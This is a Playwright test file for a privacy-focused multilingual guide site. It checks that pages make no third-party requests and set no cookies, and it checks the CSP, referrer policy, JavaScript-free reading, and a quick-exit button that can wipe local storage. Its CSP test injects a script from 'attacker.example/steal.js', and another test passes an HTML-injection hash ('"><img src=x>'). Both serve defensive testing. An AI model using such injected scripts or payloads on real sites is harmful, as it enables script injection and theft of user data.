import { test, expect } from '@playwright/test';
import { builtPages } from './support/dist';

const pages = builtPages();

test.describe('privacy and JavaScript-free reading', () => {
  // A service worker would answer some requests itself; block it so every request is seen.
  test.use({ serviceWorkers: 'block' });

  test('no page requests anything from another origin or sets a cookie', async ({ page, context, baseURL }) => {
    test.setTimeout(180_000);
    const origin = new URL(baseURL!).origin;
    const foreign: string[] = [];
    context.on('request', (r) => {
      if (!r.url().startsWith(origin) && !r.url().startsWith('data:')) foreign.push(`${page.url()} -> ${r.url()}`);
    });
    for (const path of pages) {
      await page.goto(path);
      await page.waitForLoadState('networkidle');
    }
    // The search page loads its UI and index on demand: run a search too.
    await page.goto('/ru/search/?q=паспорт');
    await expect(page.locator('pagefind-results .pf-result').first()).toBeVisible({ timeout: 15_000 });
    expect(foreign).toEqual([]);
    expect(await context.cookies()).toEqual([]);
  });

  test('every page carries a CSP that blocks an injected external script', async ({ page }) => {
    for (const path of ['/en/', '/ru/countries/kyrgyzstan/', '/en/checklists/documents/', '/en/search/']) {
      await page.goto(path);
      const csp = await page.locator('meta[http-equiv="content-security-policy"]').getAttribute('content');
      expect(csp).toContain("default-src 'self'");
      expect(csp).toContain('script-src');
      const blocked = await page.evaluate(
        () =>
          new Promise<string>((resolve) => {
            document.addEventListener('securitypolicyviolation', (e) => resolve(e.blockedURI), { once: true });
            const s = document.createElement('script');
            s.src = 'https://attacker.example/steal.js';
            document.head.append(s);
            setTimeout(() => resolve('not blocked'), 3000);
          }),
      );
      expect(blocked).toBe('https://attacker.example/steal.js');
    }
  });

  test('outbound links are marked and send no referrer', async ({ page }) => {
    await page.goto('/en/countries/kazakhstan/sources/');
    const external = page.locator('main a[href^="http"]');
    expect(await external.count()).toBeGreaterThan(5);
    for (const rel of await external.evaluateAll((as) => as.map((a) => a.getAttribute('rel') ?? ''))) {
      expect(rel).toContain('noopener');
      expect(rel).toContain('noreferrer');
    }
    await expect(page.locator('meta[name="referrer"]')).toHaveAttribute('content', 'no-referrer');
    await expect(page.locator('ol.sources a.external').first()).toContainText('(leaves this site)');
  });

  test.describe('with JavaScript off', () => {
    test.use({ javaScriptEnabled: false });
    test('every page shows its heading and content', async ({ page }) => {
      test.setTimeout(180_000);
      for (const path of pages) {
        await page.goto(path);
        await expect(page.locator('main h1').first(), path).toBeVisible();
        expect((await page.locator('main').innerText()).length, path).toBeGreaterThan(80);
      }
    });
  });
});

test.describe('quick exit', () => {
  test.use({ serviceWorkers: 'block' });
  test.beforeEach(async ({ context }) => {
    // Stand-ins for the neutral sites, so the test never leaves this machine.
    await context.route(/^https:\/\/(www\.bbc\.com|yandex\.ru|neutral\.example)\//, (route) =>
      route.fulfill({ contentType: 'text/html', body: '<title>neutral</title><p>Weather</p>' }),
    );
  });

  test('the button leaves and Back does not return to the guide', async ({ page }) => {
    await page.goto('https://neutral.example/start');
    await page.goto('/en/countries/kyrgyzstan/');
    const exit = page.getByRole('link', { name: 'Quick exit' });
    const box = await exit.boundingBox();
    expect(box!.y).toBeLessThan(120);
    expect(box!.height).toBeGreaterThanOrEqual(44);
    await exit.click();
    await expect(page).toHaveURL('https://www.bbc.com/weather');
    await page.goBack();
    await expect(page).toHaveURL('https://neutral.example/start');
  });

  test('pressing Shift three times leaves too', async ({ page }) => {
    await page.goto('/ru/threats/');
    for (let i = 0; i < 3; i++) await page.keyboard.press('Shift');
    await expect(page).toHaveURL('https://yandex.ru/pogoda/');
  });

  test('with the wipe setting on, quick exit erases what the site stored', async ({ page }) => {
    await page.goto('/en/safety/');
    await page.getByLabel(/Make quick exit also erase/).check();
    await page.goto('/en/checklists/documents/');
    await page.locator('.checklist-item input[type="checkbox"]').first().check();
    await page.getByRole('link', { name: 'Quick exit' }).click();
    await expect(page).toHaveURL('https://www.bbc.com/weather');
    await page.goto('/en/');
    expect(await page.evaluate(() => Object.keys(localStorage).filter((k) => k.startsWith('atlas:')))).toEqual([]);
  });
});

test('unknown hashes and malformed query strings do not break pages', async ({ page }) => {
  const errors: string[] = [];
  page.on('pageerror', (e) => errors.push(e.message));
  await page.goto('/en/checklists/documents/#does-not-exist%');
  await page.goto('/en/checklists/documents/#"><img src=x>');
  await page.goto('/ru/countries/kyrgyzstan/?%E0%A4%A=1&q=%');
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  expect(errors).toEqual([]);
});
